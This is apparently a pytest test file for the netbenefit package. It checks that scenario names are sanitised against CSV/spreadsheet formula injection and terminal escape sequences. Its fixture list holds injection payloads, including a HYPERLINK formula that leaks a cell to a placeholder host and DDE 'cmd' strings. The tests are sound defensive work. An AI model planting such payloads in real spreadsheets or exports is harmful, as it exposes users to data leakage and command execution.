"""User text reaches every sink safely: no spreadsheet cell or CSV field starts a formula, nothing
printed to the terminal carries a control or escape character, and a name that a workbook cannot
hold is refused when the scenario is read (one line naming the key, never a traceback)."""

from __future__ import annotations

import contextlib
import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from support import base_scenario_dict, with_changes

from netbenefit import Scenario, ScenarioError, cli
from netbenefit.io import safe_text

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def run(*argv) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main([str(arg) for arg in argv])
    return code, out.getvalue(), err.getvalue()


def write_scenario(folder: Path, stem: str, **changes) -> Path:
    path = folder / f"{stem}.yaml"
    path.write_text(yaml.safe_dump(with_changes(base_scenario_dict(), changes), allow_unicode=True), encoding="utf-8")
    return path


# ----------------------------------------------------------------------------------------------
# The functions
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_a_csv_field_or_cell_that_would_start_a_formula_gets_a_leading_quote(text):
    assert safe_text.csv_field(text) == "'" + text
    assert safe_text.cell(text).startswith("'")
    assert not safe_text.cell(text).startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", ["Party City", "office 2 = HQ", "a-b", "", "'quoted"])
def test_ordinary_text_is_written_as_it_is(text):
    assert safe_text.csv_field(text) == text
    assert safe_text.cell(text) == text
    assert safe_text.terminal(text) == text


@pytest.mark.parametrize("value", [-5.0, 0, 12, True, None])
def test_numbers_and_other_values_are_left_alone(value):
    assert safe_text.csv_field(value) is value
    assert safe_text.cell(value) is value


def test_a_cell_writes_control_characters_a_workbook_cannot_hold_as_escapes():
    assert safe_text.cell("a\x01b\x00c\x1b[2J") == "a\\x01b\\x00c\\x1b[2J"


def test_terminal_text_escapes_control_and_escape_characters_as_error_messages_do():
    assert safe_text.terminal("x\x1b]0;owned\x07\x1b[2J\n\x9b") == "x\\x1b]0;owned\\x07\\x1b[2J\\n\\x9b"
    assert safe_text.terminal_lines("one\x1b[2J\ntwo") == "one\\x1b[2J\ntwo"


def test_html_escapes_markup():
    assert safe_text.html('<b a="1">&') == "&lt;b a=&quot;1&quot;&gt;&amp;"


def test_a_csv_table_neutralises_values_column_names_and_the_index():
    table = pd.DataFrame({"=col": ["=1+1", "ok"], "n": [-1.0, 2.0]}, index=pd.Index(["@x", "y"], name="+i"))
    safe = safe_text.csv_table(table)
    assert list(safe.columns) == ["'=col", "n"]
    assert list(safe["'=col"]) == ["'=1+1", "ok"]
    assert list(safe["n"]) == [-1.0, 2.0]  # numbers stay numbers
    assert list(safe.index) == ["'@x", "y"] and safe.index.name == "'+i"
    assert list(table.columns) == ["=col", "n"]  # the table given is not changed


# ----------------------------------------------------------------------------------------------
# Every writer of compare, sweep and montecarlo
# ----------------------------------------------------------------------------------------------


def every_csv_field(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [field for row in csv.reader(handle) for field in row]


#: The spreadsheet functions the workbook's model uses (netbenefit.views.workbook).
MODEL_FUNCTIONS = {
    *("ABS", "AND", "COLUMNS", "EXP", "IF", "INDEX", "ISNUMBER", "LN", "MAX", "MIN", "NA", "NORMSDIST", "NOT"),
    *("OR", "POWER", "ROUNDUP", "SUM", "SUMPRODUCT", "TEXT", "VLOOKUP"),
}


def assert_no_formula_in_outputs(out: Path) -> tuple[list[str], list[str]]:
    """Every cell of the workbook and every field of the CSV files; no formula but the model's own.

    The workbook's model is formulas (netbenefit.views.workbook): each one may call only the functions
    the model uses, and none may hold text of the scenario's."""
    workbook = openpyxl.load_workbook(out / "comparison.xlsx")
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    where = f"{sheet.title}!{cell.coordinate} holds a formula not the model's: {cell.value!r}"
                    assert set(re.findall(r"([A-Z][A-Z0-9.]*)\(", cell.value)) <= MODEL_FUNCTIONS, where
                    # its texts are the model's own (the timing's word, the checks' TEXT sentences), none of a scenario
                    assert not any(h in cell.value for h in HOSTILE_NAMES), where
                    assert all(not text.startswith(FORMULA_STARTS[1:]) for text in re.findall(r'"([^"]*)"', cell.value))
                    continue
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    fields = []
    for path in [out / "summary.csv", *(out / "cashflows").glob("*.csv")]:
        for field in every_csv_field(path):
            assert not field.startswith(FORMULA_STARTS), f"{path.name}: {field!r}"
            fields.append(field)
    return texts, fields


@pytest.mark.slow
@pytest.mark.parametrize("hostile", HOSTILE_NAMES[:4])  # a tab or CR is refused in a name (below)
def test_compare_writes_no_formula_into_the_workbook_or_the_csv_files(tmp_path, hostile):
    scenario = write_scenario(tmp_path, "hostile", name=hostile, **{"streams.0.name": hostile})
    code, _, err = run("compare", scenario, "--out", tmp_path / "out")
    assert (code, err) == (0, "")
    texts, fields = assert_no_formula_in_outputs(tmp_path / "out")
    assert "'" + hostile in texts and "'" + hostile in fields  # the name and the stream's column


@pytest.mark.slow
def test_a_scenario_file_name_that_starts_a_formula_is_written_as_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_scenario(tmp_path, "=HYPERLINK(1)")
    code, _, err = run("compare", "=HYPERLINK(1).yaml", "--out", "out")
    assert (code, err) == (0, "")
    texts, fields = assert_no_formula_in_outputs(tmp_path / "out")
    assert "'=HYPERLINK(1).yaml" in texts and "'=HYPERLINK(1).yaml" in fields


def test_sweep_and_montecarlo_tables_are_written_with_the_same_guard(tmp_path):
    from netbenefit.cli.commands.options import write_table

    table = pd.DataFrame({"=HYPERLINK(1)": [1.0], "note": ["-1+1"]})
    write_table(table, tmp_path / "table.csv")
    fields = every_csv_field(tmp_path / "table.csv")
    assert fields == ["'=HYPERLINK(1)", "note", "1.0", "'-1+1"]


# ----------------------------------------------------------------------------------------------
# Names a workbook cannot hold, and text printed to the terminal
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key, name",
    [
        ("name", "office\x01"),
        ("name", "a\x00b"),
        ("name", "\x1b[2Jcleared"),
        ("name", "two\nlines"),
        ("streams.0.name", "taxes\x1b]0;retitled\x07"),
        ("streams.0.name", "\x9b2J"),
    ],
)
def test_a_name_with_a_control_character_is_refused_at_load_naming_the_key(key, name):
    with pytest.raises(ScenarioError) as caught:
        Scenario.from_dict(with_changes(base_scenario_dict(), {key: name}))
    assert caught.value.key == key
    assert "control character" in caught.value.problem
    assert str(caught.value).isprintable()


def test_a_phase_name_with_a_control_character_is_refused_naming_the_key():
    phase = {"name": "phase\x07two", "start_year": 2, "jobs": {"new": 1, "nj_withholding_share": 1.0},
             "award": {"annual_credit": 1.0}}  # fmt: skip
    with pytest.raises(ScenarioError) as caught:
        Scenario.from_dict(with_changes(base_scenario_dict(), {"phases": [phase]}))
    assert caught.value.key == "phases.0.name"


@pytest.mark.slow
def test_compare_of_a_name_with_a_control_character_is_one_line_and_exit_2_writing_nothing(tmp_path):
    # Was: exit 1 with a 36-line traceback from the workbook writer, some outputs written.
    good = write_scenario(tmp_path, "good")
    bad = write_scenario(tmp_path, "bad", name="office\x01", **{"streams.0.name": "taxes\x00"})
    code, out, err = run("compare", good, bad, "--out", tmp_path / "out")
    # every file is checked before any line is printed; nothing is written
    assert code == 2 and out == ""
    # one line per problem of the file (the name and the stream name), no traceback
    assert len(err.splitlines()) == 2 and err.startswith(f"netbenefit: {bad}: name: ") and "Traceback" not in err
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_terminal_output_of_compare_escapes_an_escape_sequence_in_the_output_folder_name(tmp_path):
    scenario = write_scenario(tmp_path, "plain")
    code, out, err = run("compare", scenario, "--out", tmp_path / "out\x1b[2J\x1b]0;x\x07")
    assert (code, err) == (0, "")
    assert out.isprintable() or all(line.isprintable() for line in out.splitlines())
    assert "\\x1b[2J" in out


@pytest.mark.slow
def test_a_scenario_file_name_with_a_control_character_is_written_safely_to_the_workbook(tmp_path):
    # Was: openpyxl's IllegalCharacterError, exit 1 and a traceback, from the summary's scenario column.
    scenario = write_scenario(tmp_path, "office\x01\x1b[2J")
    code, out, err = run("compare", scenario, "--out", tmp_path / "out")
    assert (code, err) == (0, "")
    texts, _ = assert_no_formula_in_outputs(tmp_path / "out")
    assert f"{tmp_path}/office\\x01\\x1b[2J.yaml" in texts
    assert all(line.isprintable() for line in out.splitlines())
